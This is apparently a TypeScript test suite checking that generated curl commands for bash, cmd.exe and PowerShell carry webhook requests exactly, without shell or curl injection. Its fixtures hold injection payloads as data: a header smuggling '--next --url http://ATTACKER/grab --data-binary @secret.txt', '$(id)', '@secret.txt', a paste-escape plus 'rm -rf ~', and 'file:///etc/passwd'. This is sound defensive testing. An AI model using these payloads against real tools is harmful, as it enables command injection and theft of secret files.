// Copy for every shell: whatever a delivery holds, curl receives exactly the intended argv and body.
// - bash: each command runs for real, with `bash -c` and pasted into an interactive `bash -i` (history expansion on),
//   against a `curl` stand-in first on PATH that records its argv and standard input; where the real curl is installed,
//   it also runs against a recording loopback server, and through the core Receiver, whose checks must pass.
// - cmd.exe and PowerShell are not on this machine: their lines go through each shell's documented rules and then the
//   C runtime's argv rules (shellRules.ts), and the curl config file through curl's; the argv that comes out is run by
//   the real curl here when it is installed.
import assert from 'node:assert/strict';
import { execFile } from 'node:child_process';
import { createHash } from 'node:crypto';
import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { promisify } from 'node:util';
import fc from 'fast-check';
import {
  bashCurlAsGiven,
  bashCurlCommand,
  BODY_FILE,
  cmdCurlCommand,
  CONFIG_FILE,
  powerShellCommand,
  powerShellQuote,
  ShellCommandError,
  type ShellCommand,
  type ShellRequest,
} from '../../../src/core/presentation/shellCommands';
import { Receiver } from '../../../src/core/webhooks/Receiver';
import { Verifier } from '../../../src/core/webhooks/Verifier';
import type { DeliveryRecord } from '../../../src/core/webhooks/deliveryRecord';
import { CurlStandIn, realCurl, runBash } from '../helpers/curlStandIn';
import { bashWord, shellQuote } from '../../../src/core/presentation/shellQuote';
import { shellWord, wfsCommandLine } from '../../../src/core/presentation/shellWord';
import { RecordingServer } from '../helpers/recordingServer';
import { startSandbox, type SandboxFixture } from '../helpers/sandboxFixture';
import {
  cmdLine,
  configOption,
  crtArgv,
  curlConfig,
  legacyCommandLine,
  psTokens,
  standardCommandLine,
  type QuoteVariant,
} from './shellRules';

const run = promisify(execFile);
const sha = (b: Buffer) => createHash('sha256').update(b).digest('hex');
/** A UTF-8 header value as node:http gives it: one character per byte. */
const asReceived = (s: string) => Buffer.from(s, 'utf8').toString('latin1');
const TOKEN = 'eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiJ4In0.c2ln-_';
const CURL_HAS = realCurl();

/** The table: each value is one header, whatever a shell or curl would otherwise make of it. */
const HOSTILE_HEADERS: [string, string][] = [
  ['content-type', 'application/json'],
  ['x-a', 'z\\'],
  ['x-b', '--next --url http://ATTACKER/grab --data-binary @secret.txt -A'],
  ['x-c', 'z\\\\'],
  ['x-d', 'a" -x "b'],
  ['x-e', '%PATH%'],
  ['x-f', '!x!'],
  ['x-g', '^&'],
  ['x-h', '$(id)'],
  ['x-i', '`id`'],
  ['x-j', asReceived('‘single’ “double” ＂fullwidth＂ naïve')],
  ['x-k', "it's"],
  ['x-l', '@secret.txt'],
  ['x-m', '<secret.txt'],
  ['x-n', 'tab\tinside'],
  ['x-o', '\xff\xfe obs-text'],
  ['x-empty', ''],
  ["!#$%&'*+-.^_`|~", 'a name of every odd character a header name may have'],
  ['authorization', 'Bearer <the original, never copied>'],
  ['host', '127.0.0.1:1'],
];
/** What -H must receive for HOSTILE_HEADERS: Authorization and Host are never copied; an empty value is `Name;`. */
const HOSTILE_LINES = HOSTILE_HEADERS.filter(([k]) => k !== 'authorization' && k !== 'host').map(([k, v]) =>
  v === '' ? `${k};` : `${k}: ${v}`,
);

const NASTY = Buffer.from(
  JSON.stringify({
    q: `it's "quoted" ‘curly’ \`tick\` $HOME $(id) %PATH% !bang! ^caret & | < > ; \\ back`,
    nl: 'line1\nline2\n\ttab',
    text: 'naïve 日本語 🎉',
  }) + '\n',
);
const HOSTILE_BODIES: [string, Buffer][] = [
  ['starts with @ (curl would send the file)', Buffer.from('@secret.txt')],
  ['is @/dev/zero (curl would never stop)', Buffer.from('@/dev/zero')],
  ['starts with < (curl would send the file, too)', Buffer.from('<secret.txt')],
  ['starts with - (an option, if it were an argument)', Buffer.from('-d @secret.txt --next')],
  ['quotes, $, %, !, backticks, newlines and UTF-8', NASTY],
  ["ends with a newline and holds '\\''", Buffer.from(`{"a":"it's"}\n\n`)],
  ['holds NUL, bytes that are not UTF-8 and CR LF', Buffer.from([0x7b, 0xff, 0x00, 0x27, 0x0d, 0x0a, 0x7d])],
  ['holds Ctrl-C and Escape (a terminal acts on them)', Buffer.from('{"a":"\x03\x1b[201~ rm -rf ~"}')],
  ['is empty', Buffer.alloc(0)],
];
const HOSTILE_URL = 'http://127.0.0.1:PORT/app?q=$(id)&v=%PATH%!x!^&t=[1-2]{a,b}\'"`|\\~';

/** The same request for every shell. */
const request = (url: string, body: Buffer, headers = HOSTILE_HEADERS): ShellRequest => ({ url, headers, body });
/** What curl must receive from the bash command: argv after `curl`, and standard input. */
const bashIntended = (url: string) => [
  '-sS',
  '--globoff',
  '-X',
  'POST',
  '--url',
  url,
  ...HOSTILE_LINES.flatMap((l) => ['-H', l]),
  '-H',
  `Authorization: Bearer ${TOKEN}`,
  '--data-binary',
  '@-',
];
/** What curl must receive from the Windows commands, once its -K file is read in place: argv after `curl.exe`. */
const windowsIntended = (url: string) => [
  '-sS',
  '--globoff',
  '-X',
  'POST',
  '--url',
  url,
  ...HOSTILE_LINES.flatMap((l) => ['-H', l]),
  '--data-binary',
  `@${BODY_FILE}`,
  '-H',
  `Authorization: Bearer ${TOKEN}`,
];

const latin1 = (argv: Buffer[]) => argv.map((a) => a.toString('latin1'));

describe('shell commands: copy for every shell', () => {
  const standIn = new CurlStandIn();
  const server = new RecordingServer();
  let base: string;

  before(async () => {
    base = await server.start();
  });
  after(() => server.stop());

  describe('bash', () => {
    for (const [name, body] of HOSTILE_BODIES) {
      it(`curl receives exactly the intended argv and body, from bash -c and pasted into bash -i: a body that ${name}`, async () => {
        const cmd = bashCurlCommand(request(HOSTILE_URL, body));
        assert.deepEqual(cmd.files, []);
        assert.match(
          cmd.command,
          /^[\x20-\x7e\n]*$/,
          'printable ASCII and line feeds only: nothing a terminal acts on',
        );
        for (const interactive of [false, true]) {
          const before = standIn.runs().length;
          const env = standIn.env({ WFS_WEBHOOK_TOKEN: TOKEN });
          const r = await runBash(cmd.command, env, { interactive });
          assert.equal(r.code, 0, r.stderr);
          const runs = standIn.runs();
          assert.equal(runs.length, before + 1, `curl ran once (${interactive ? 'bash -i' : 'bash -c'})`);
          assert.deepEqual(latin1(runs.at(-1)!.argv), bashIntended(HOSTILE_URL));
          assert.deepEqual(runs.at(-1)!.stdin, body, 'the body arrives on standard input, byte for byte');
        }
      });
    }

    it('a body of printable ASCII stays readable (printf); any other byte is carried as base64', () => {
      const text = bashCurlCommand(request(HOSTILE_URL, Buffer.from('{"a":"it\'s"}\n')));
      assert.match(text.command, /^printf %s '\{"a":"it'\\''s"\}\n' \| curl -sS --globoff -X POST \\\n/);
      const utf8 = bashCurlCommand(request(HOSTILE_URL, Buffer.from('{"a":"é"}')));
      assert.match(utf8.command, /^printf %s 'eyJhIjoiw6kifQ==' \| base64 -d \| curl /);
      assert.match(text.command, /--data-binary @-$/);
      assert.ok(!text.command.includes('never copied'), 'the recorded Authorization is never copied');
    });

    it('a body from the user’s own file (wfs sign --body FILE) is redirected into curl’s standard input', async () => {
      const dir = mkdtempSync(join(tmpdir(), "wfs-it's $(id) "));
      const file = join(dir, '@-x\x01.json');
      writeFileSync(file, '@secret.txt');
      const cmd = bashCurlCommand({ url: 'http://127.0.0.1:9/hook', headers: [], body: { path: file }, token: TOKEN });
      assert.match(cmd.command, /^[\x20-\x7e\n]*$/);
      const r = await runBash(cmd.command, standIn.env());
      assert.equal(r.code, 0, r.stderr);
      const last = standIn.runs().at(-1)!;
      assert.deepEqual(latin1(last.argv).slice(-2), ['--data-binary', '@-']);
      assert.deepEqual(last.stdin, Buffer.from('@secret.txt'));
    });

    it('the real curl sends exactly the hostile headers and bodies to a loopback server', async function () {
      if (!CURL_HAS) this.skip();
      const cwd = mkdtempSync(join(tmpdir(), 'wfs-shell-'));
      writeFileSync(join(cwd, 'secret.txt'), 'TOP-SECRET');
      const url = `${base}/app?q=$(id)&v=%PATH%!x!^&t=[1-2]{a,b}'"\`|\\~`;
      for (const [name, body] of HOSTILE_BODIES) {
        const before = server.requests.length;
        const env = { ...process.env, HOME: cwd, WFS_WEBHOOK_TOKEN: TOKEN } as Record<string, string>;
        const r = await runBash(bashCurlCommand(request(url, body)).command, env, { cwd });
        assert.equal(r.code, 0, r.stderr);
        assert.equal(server.requests.length, before + 1, `one request for a body that ${name}`);
        const got = server.requests.at(-1)!;
        assert.equal(got.url, url.slice(base.length), 'the URL as it is: no globbing');
        assert.deepEqual(got.body, body, `a body that ${name}`);
        for (const [k, v] of HOSTILE_HEADERS.filter(([h]) => h !== 'authorization' && h !== 'host'))
          assert.equal(got.headers[k], v, k);
        assert.equal(got.headers.authorization, `Bearer ${TOKEN}`);
      }
    });
  });

  /** The argv a Windows command gives curl.exe, by the shell's rules and then the C runtime's, with the -K file read in
   * place by curl's rules; and the body file's bytes. Checked under each reading of `""` the runtimes have. */
  function throughConfig(cmd: ShellCommand, argvs: string[][]): { argv: string[]; body: Buffer } {
    const config = cmd.files.find((f) => f.purpose === 'config')!;
    const body = cmd.files.find((f) => f.purpose === 'body')!;
    assert.ok(config.path.endsWith(CONFIG_FILE) && body.path.endsWith(BODY_FILE));
    const expanded = argvs.map((argv) => {
      assert.equal(argv[0], 'curl.exe');
      const k = argv.indexOf('-K');
      assert.equal(argv[k + 1], CONFIG_FILE);
      const fromConfig = curlConfig(config.bytes.toString('latin1')).flatMap(([o, p]) => [configOption(o), p!]);
      return [...argv.slice(1, k), ...fromConfig, ...argv.slice(k + 2)];
    });
    for (const a of expanded.slice(1)) assert.deepEqual(a, expanded[0], 'the same argv under every C runtime');
    return { argv: expanded[0]!, body: body.bytes };
  }

  const VARIANTS: QuoteVariant[] = ['toggle', 'stay', 'leave'];
  const WINDOWS_ENV = { WFS_WEBHOOK_TOKEN: TOKEN, PATH: 'C:\\Windows', X: 'EXPANDED' };

  /** cmd.exe's reading of the line, with and without delayed expansion: pushd DIR && (curl.exe … & popd). */
  function cmdArgvs(line: string, dir: string): string[][] {
    const argvs: string[][] = [];
    for (const delayed of [false, true]) {
      const parts = cmdLine(line, WINDOWS_ENV, delayed);
      assert.deepEqual(
        parts.map((p) => p.op ?? (p.text!.startsWith('curl.exe ') ? 'curl.exe' : p.text)),
        [`pushd "${dir}"`, '&&', '(', 'curl.exe', '&', 'popd', ')'],
        'pushd the folder, then curl.exe and popd: no other command, no redirection',
      );
      for (const v of VARIANTS) argvs.push(crtArgv(parts[3]!.text!, v));
    }
    return argvs;
  }

  /** PowerShell's reading of the line, and the argv curl.exe gets from 5.1 (Legacy) and 7.3+ (Standard). */
  function powerShellArgvs(line: string, dir: string): string[][] {
    const t = psTokens(line, WINDOWS_ENV);
    const shape = t.map((x) => ('text' in x ? x.text : 'value' in x ? `${x.kind}:${x.value}` : x.kind));
    const i = shape.indexOf('curl.exe');
    assert.deepEqual(
      [...shape.slice(0, i), ...shape.slice(shape.indexOf('}'))],
      [
        'Push-Location',
        '-LiteralPath',
        `single:${dir}`,
        '-ErrorAction',
        'Stop',
        ';',
        'try',
        '{',
        '}',
        'finally',
        '{',
        'Pop-Location',
        '}',
      ],
    );
    const args = t.slice(i + 1, shape.indexOf('}')).map((x) => ('text' in x ? x.text : (x as { value: string }).value));
    for (const a of args) assert.ok(a !== '' && !a.includes('"') && !a.endsWith('\\'), a);
    const argvs: string[][] = [];
    for (const line of [legacyCommandLine('curl.exe', args), standardCommandLine('curl.exe', args)])
      for (const v of VARIANTS) argvs.push(crtArgv(line, v));
    return argvs;
  }

  const FOLDERS = [
    'C:\\Users\\A&B (x)\\AppData\\Local\\Temp\\wfs-delivery-Ab12',
    'C:\\Users\\Zoë 日本\\AppData\\Local\\Temp\\wfs-delivery-Ab12',
    "C:\\Users\\it's ‘q’ $(id) `x` ;{}\\Temp\\wfs-delivery-Ab12",
  ];

  for (const [shell, build, argvsOf] of [
    ['cmd.exe', cmdCurlCommand, cmdArgvs],
    ['PowerShell', powerShellCommand, powerShellArgvs],
  ] as const) {
    describe(shell, () => {
      for (const dir of FOLDERS) {
        it(`curl.exe receives exactly the intended argv, its config file and the body file (folder ${dir})`, () => {
          for (const [name, body] of HOSTILE_BODIES) {
            const cmd = build(request(HOSTILE_URL, body), dir);
            assert.ok(!cmd.command.includes('\n'), 'one line');
            const { argv, body: file } = throughConfig(cmd, argvsOf(cmd.command, dir));
            assert.deepEqual(argv, windowsIntended(HOSTILE_URL), name);
            assert.deepEqual(file, body, name);
            assert.ok(!cmd.command.includes('never copied'));
          }
        });
      }

      it('the argv that comes out, run by the real curl where the files are, sends exactly the request', async function () {
        if (!CURL_HAS) this.skip();
        const dir = mkdtempSync(join(tmpdir(), 'wfs-delivery-'));
        writeFileSync(join(dir, 'secret.txt'), 'TOP-SECRET');
        const url = `${base}/app?q=$(id)&v=%PATH%!x!^&t=[1-2]{a,b}'"\`|\\~`;
        for (const [name, body] of HOSTILE_BODIES) {
          const cmd = build(request(url, body), dir);
          for (const f of cmd.files) writeFileSync(f.path, f.bytes);
          const argv = argvsOf(cmd.command, dir)[0]!;
          const before = server.requests.length;
          await run('curl', argv.slice(1), { cwd: dir, env: { ...process.env, HOME: dir } });
          assert.equal(server.requests.length, before + 1);
          const got = server.requests.at(-1)!;
          assert.equal(got.url, url.slice(base.length));
          assert.deepEqual(got.body, body, `a body that ${name}`);
          for (const [k, v] of HOSTILE_HEADERS.filter(([h]) => h !== 'authorization' && h !== 'host'))
            assert.equal(got.headers[k], v, k);
          assert.equal(got.headers.authorization, `Bearer ${TOKEN}`);
        }
      });
    });
  }

  it('cmd.exe: a folder holding what cmd.exe changes even inside quotes is refused, with what to do', () => {
    for (const dir of ['C:\\Users\\100%\\Temp\\x', 'C:\\Users\\a!b\\x', 'C:\\Users\\a^b\\x', 'C:\\a"b\\x', 'C:\\a\nb'])
      assert.throws(
        () => cmdCurlCommand(request('http://127.0.0.1:9/', Buffer.from('{}')), dir),
        (e: Error) => e instanceof ShellCommandError && /Set TEMP to a folder without it/.test(e.message),
        dir,
      );
  });

  it('PowerShell: quotes are doubled, typographic ones too; a folder with a line break is refused', () => {
    assert.equal(powerShellQuote(`it's ‘x’ $env:A \`n`), `'it''s ‘‘x’’ $env:A \`n'`);
    assert.throws(
      () => powerShellCommand(request('http://127.0.0.1:9/', Buffer.from('{}')), 'C:\\a\nb'),
      ShellCommandError,
    );
  });

  describe('what no command can carry is refused by every shell, with the reason, never altered', () => {
    const cases: [string, Partial<ShellRequest>, RegExp][] = [
      ['a header value with a line feed', { headers: [['x-a', 'a\nx-b: injected']] }, /x-a holds a line feed \(0x0a\)/],
      ['a header value with a carriage return', { headers: [['x-a', 'a\rb']] }, /carriage return \(0x0d\)/],
      ['a header value with NUL', { headers: [['x-a', 'a\0b']] }, /NUL \(0x00\)/],
      ['a header value with Ctrl-Z', { headers: [['x-a', 'a\x1ab']] }, /control character \(0x1a\)/],
      ['a header value that is not bytes', { headers: [['x-a', '‘x’']] }, /U\+2018/],
      ['a header name with a colon', { headers: [['x:y', 'v']] }, /"x:y" is not an HTTP header name/],
      ['a header name starting with @', { headers: [['@secret.txt', 'v']] }, /not an HTTP header name/],
      ['a header name with a semicolon', { headers: [['x;', 'v']] }, /not an HTTP header name/],
      ['a header name with a space', { headers: [['x y', 'v']] }, /not an HTTP header name/],
      ['an empty header name', { headers: [['', 'v']] }, /not an HTTP header name/],
      ['a URL with a space', { url: 'http://127.0.0.1:9/a b' }, /address holds a space/],
      ['a URL with a line feed', { url: 'http://127.0.0.1:9/a\nb' }, /line feed/],
      ['a URL that is not http(s)', { url: 'file:///etc/passwd' }, /not an http\(s\) URL/],
      ['a token variable that is not a name', { tokenVariable: 'X%&calc' }, /not an environment variable/],
      ['a token that is not a Bearer token', { token: 'a" -K "x' }, /not a Bearer token/],
    ];
    for (const [name, change, message] of cases)
      it(name, () => {
        const req = { ...request('http://127.0.0.1:9/hook', Buffer.from('{}'), []), ...change };
        for (const build of [
          bashCurlCommand,
          (r: ShellRequest) => cmdCurlCommand(r, 'C:\\t'),
          (r: ShellRequest) => powerShellCommand(r, 'C:\\t'),
        ])
          assert.throws(
            () => build(req),
            (e: Error) => e instanceof ShellCommandError && message.test(e.message),
          );
      });
  });

  describe('through the Receiver, with the real curl: the token from $WFS_WEBHOOK_TOKEN verifies', () => {
    let f: SandboxFixture;
    let receiver: Receiver;
    let url: string;
    const records: DeliveryRecord[] = [];

    before(async function () {
      if (!CURL_HAS) this.skip();
      f = await startSandbox();
      const verifier = new Verifier({
        issuers: [{ issuer: f.info.issuer, jwksUrl: f.info.jwksUrl, audience: f.info.audience }],
        clock: f.clock,
      });
      receiver = new Receiver({ verifier, clock: f.clock, maxBodyBytes: 2 * 1024 * 1024 });
      receiver.on('delivery', (r: DeliveryRecord) => records.push(r));
      url = await receiver.start();
    });
    after(async () => {
      await receiver?.stop();
      await f?.stop();
    });

    /** Exactly 1 MiB of valid JSON full of shell metacharacters and newlines. */
    const MIB = (() => {
      const json = JSON.stringify({ pad: 'x$\'"`%!é\n'.repeat(80_000) });
      return Buffer.concat([
        Buffer.from(json.slice(0, -1)),
        Buffer.alloc(1024 * 1024 - Buffer.byteLength(json), 0x20),
        Buffer.from('}'),
      ]);
    })();
    for (const [name, body] of [
      ['quotes, backticks, $, %, !, newlines and non-ASCII', NASTY],
      ['a 1 MiB body (past the 128 KiB a single argument may have)', MIB],
      ['a body starting with @', Buffer.from('@secret.txt')],
    ] as const)
      it(name, async () => {
        const token = await f.sandbox.context.signer.sign(body);
        const cmd = bashCurlCommand({ url, headers: [['content-type', 'application/json']], body });
        // Past 128 KiB the command cannot be `bash -c`'s argument: it runs from a script, as a paste would.
        const script = join(mkdtempSync(join(tmpdir(), 'wfs-shell-')), 'paste.sh');
        writeFileSync(script, cmd.command);
        const before = records.length;
        await run('bash', [script], { env: { ...process.env, WFS_WEBHOOK_TOKEN: token }, maxBuffer: 16 * 1024 * 1024 });
        assert.equal(records.length, before + 1, 'one delivery arrived');
        const r = records.at(-1)!;
        assert.equal(r.body.sha256, sha(body));
        assert.equal(r.verified, true, JSON.stringify(r.checks.find((c) => !c.ok)));
      });
  });

  it('the files a Windows command names are the only place its request is: the body file is the body', () => {
    const cmd = cmdCurlCommand(request(HOSTILE_URL, NASTY), 'C:\\t');
    assert.deepEqual(cmd.files.find((x) => x.purpose === 'body')!.bytes, NASTY);
    for (const [, v] of HOSTILE_HEADERS.slice(1, 17)) if (v.length > 2) assert.ok(!cmd.command.includes(v), v);
  });
  describe('properties over any request (fast-check, bounded runs)', () => {
    const ch = (lo: number, hi: number) => fc.integer({ min: lo, max: hi }).map((c) => String.fromCharCode(c));
    /** Header values as node:http gives them: bytes as characters, tab, printable ASCII and obs-text. */
    const headerValue = fc.string({ unit: fc.oneof(ch(0x20, 0x7e), ch(0x80, 0xff), fc.constant('\t')), maxLength: 24 });
    const headerName = fc.stringMatching(/^[!#$%&'*+.^_`|~0-9A-Za-z-]{1,12}$/);
    const url = fc.string({ unit: ch(0x21, 0x7e), maxLength: 40 }).map((tail) => `http://127.0.0.1:9/${tail}`);
    const body = fc.oneof(
      fc.uint8Array({ maxLength: 200 }).map((b) => Buffer.from(b)),
      fc.string({ unit: fc.oneof(ch(0x20, 0x7e), fc.constant('\n')), maxLength: 200 }).map((t) => Buffer.from(t)),
    );
    const anyRequest = fc.record({
      url,
      headers: fc.array(fc.tuple(headerName, headerValue), { maxLength: 4 }),
      body,
    });
    const linesOf = (req: ShellRequest) =>
      req.headers
        .filter(
          ([k]) =>
            !['authorization', 'host', 'content-length', 'connection', 'transfer-encoding', 'accept-encoding'].includes(
              k.toLowerCase(),
            ),
        )
        .map(([k, v]) => (v.trim() === '' ? `${k};` : `${k}: ${v}`));
    /** Folders a Windows user may have: any printable character, accents, CJK, typographic quotes, an emoji. */
    const folder = fc
      .string({
        unit: fc.oneof(ch(0x20, 0x7e), fc.constantFrom('é', '日', '‘', '’', '‚', '‛', '\u00a0', '😀')),
        maxLength: 20,
      })
      .map((tail) => `C:\\Users\\${tail}`);

    it('bash words: any text or bytes but NUL come back exactly through bash -c and a paste into bash -i', async () => {
      const text = fc.string({ unit: 'grapheme', maxLength: 12 }).filter((t) => !t.includes('\0'));
      const bytes = fc.uint8Array({ minLength: 0, maxLength: 12 }).map((b) => Buffer.from(b.filter((x) => x !== 0)));
      await fc.assert(
        fc.asyncProperty(fc.array(text, { maxLength: 6 }), fc.array(bytes, { maxLength: 6 }), async (texts, raw) => {
          const words = [...texts.map(shellQuote), ...texts.map(shellWord), ...raw.map(bashWord)];
          const expected = [...texts, ...texts].map((t) => Buffer.from(t)).concat(raw);
          for (const w of raw.map(bashWord)) assert.match(w, /^[\x20-\x7e]*$/, 'a bash word is printable ASCII');
          for (const interactive of [false, true]) {
            const r = await runBash(`printf '%s\\0' ${words.join(' ')} | base64 -w0`, standIn.env(), { interactive });
            assert.equal(r.code, 0, r.stderr);
            const got = Buffer.from(r.stdout.trim().split('\n').at(-1)!, 'base64');
            const parts = words.length ? got.subarray(0, -1).toString('latin1').split('\0') : [];
            assert.deepEqual(
              parts.map((p) => Buffer.from(p, 'latin1')),
              expected,
              interactive ? 'bash -i' : 'bash -c',
            );
          }
        }),
        { numRuns: 30, seed: 74 },
      );
    });

    it('bash: any request reaches curl exactly, from a command of printable ASCII and line feeds', async () => {
      await fc.assert(
        fc.asyncProperty(anyRequest, async (req) => {
          const cmd = bashCurlCommand(req);
          assert.match(cmd.command, /^[\x20-\x7e\n]*$/);
          const before = standIn.runs().length;
          const r = await runBash(cmd.command, standIn.env({ WFS_WEBHOOK_TOKEN: TOKEN }));
          assert.equal(r.code, 0, r.stderr);
          const last = standIn.runs();
          assert.equal(last.length, before + 1);
          assert.deepEqual(latin1(last.at(-1)!.argv), [
            '-sS',
            '--globoff',
            '-X',
            'POST',
            '--url',
            req.url,
            ...linesOf(req).flatMap((l) => ['-H', l]),
            '-H',
            `Authorization: Bearer ${TOKEN}`,
            '--data-binary',
            '@-',
          ]);
          assert.deepEqual(last.at(-1)!.stdin, req.body);
        }),
        { numRuns: 25, seed: 74 },
      );
    });

    it("bash: any request as given (the audit's replay) reaches curl exactly, Authorization and body as they are", async () => {
      await fc.assert(
        fc.asyncProperty(anyRequest, async (req) => {
          const headers: [string, string][] = [...req.headers, ['authorization', 'Bearer not-a-variable $HOME']];
          const command = bashCurlAsGiven({ url: req.url, headers, body: req.body });
          assert.match(command, /^[\x20-\x7e\n]*$/);
          const before = standIn.runs().length;
          const r = await runBash(command, standIn.env());
          assert.equal(r.code, 0, r.stderr);
          const last = standIn.runs();
          assert.equal(last.length, before + 1);
          assert.deepEqual(latin1(last.at(-1)!.argv), [
            '-sS',
            '-i',
            '--globoff',
            '-X',
            'POST',
            '--url',
            req.url,
            ...headers.flatMap(([k, v]) => ['-H', `${k}: ${v}`]),
            '--data-binary',
            '@-',
          ]);
          assert.deepEqual(last.at(-1)!.stdin, req.body);
        }),
        { numRuns: 25, seed: 75 },
      );
    });

    it('wfs command lines: any values come back as the same arguments through bash -c', async () => {
      const value = fc.string({ unit: 'grapheme', maxLength: 12 }).filter((t) => !t.includes('\0'));
      await fc.assert(
        fc.asyncProperty(value, value, async (a, b) => {
          const line = wfsCommandLine('status', [['follow'], ['workflow', a], ['note', b]]);
          const r = await runBash(`wfs() { printf '%s\\0' "$@" | base64 -w0; }; ${line}`, standIn.env());
          assert.equal(r.code, 0, r.stderr);
          const got = Buffer.from(r.stdout.trim().split('\n').at(-1)!, 'base64').toString('utf8').split('\0');
          assert.deepEqual(got, ['status', '--follow', '--workflow', a, '--note', b, '']);
        }),
        { numRuns: 40, seed: 75 },
      );
      // The one bare-word rule: plain values stay bare; a leading `=` (a path in zsh) and spaces are quoted.
      assert.equal(
        wfsCommandLine('find', [['correlation-id', 'wfs-1.a:b/c@d']]),
        'wfs find --correlation-id wfs-1.a:b/c@d',
      );
      assert.equal(shellWord('=ls'), "'=ls'");
      assert.equal(shellWord('a=b'), 'a=b');
      assert.equal(shellWord('it s'), "'it s'");
    });

    for (const [shell, build, argvsOf, ok] of [
      ['cmd.exe', cmdCurlCommand, cmdArgvs, (d: string) => /^[^"%!^\x00-\x1f\x7f]+$/.test(d)],
      ['PowerShell', powerShellCommand, powerShellArgvs, () => true],
    ] as const)
      it(`${shell}: any request and folder reach curl.exe exactly, by the shell's, runtime's and curl's rules`, () => {
        fc.assert(
          fc.property(anyRequest, folder.filter(ok), (req, dir) => {
            const cmd = build(req, dir);
            assert.ok(!cmd.command.includes('\n'));
            const { argv, body: file } = throughConfig(cmd, argvsOf(cmd.command, dir));
            assert.deepEqual(argv, [
              '-sS',
              '--globoff',
              '-X',
              'POST',
              '--url',
              req.url,
              ...linesOf(req).flatMap((l) => ['-H', l]),
              '--data-binary',
              `@${BODY_FILE}`,
              '-H',
              `Authorization: Bearer ${TOKEN}`,
            ]);
            assert.deepEqual(file, req.body);
          }),
          { numRuns: 200, seed: 74 },
        );
      });

    it('any text at all: each shell builds its command or refuses with a ShellCommandError, nothing else', () => {
      const text = fc.string({ unit: 'binary', maxLength: 30 });
      fc.assert(
        fc.property(text, fc.tuple(text, text), text, text, (u, header, dir, variable) => {
          const req: ShellRequest = {
            url: `http://x/${u}`,
            headers: [header],
            body: Buffer.from(u),
            tokenVariable: variable,
          };
          for (const build of [
            bashCurlCommand,
            (r: ShellRequest) => cmdCurlCommand(r, dir),
            (r: ShellRequest) => powerShellCommand(r, dir),
          ])
            try {
              build(req);
            } catch (err) {
              assert.ok(err instanceof ShellCommandError, String(err));
            }
        }),
        { numRuns: 300, seed: 74 },
      );
    });
  });
});
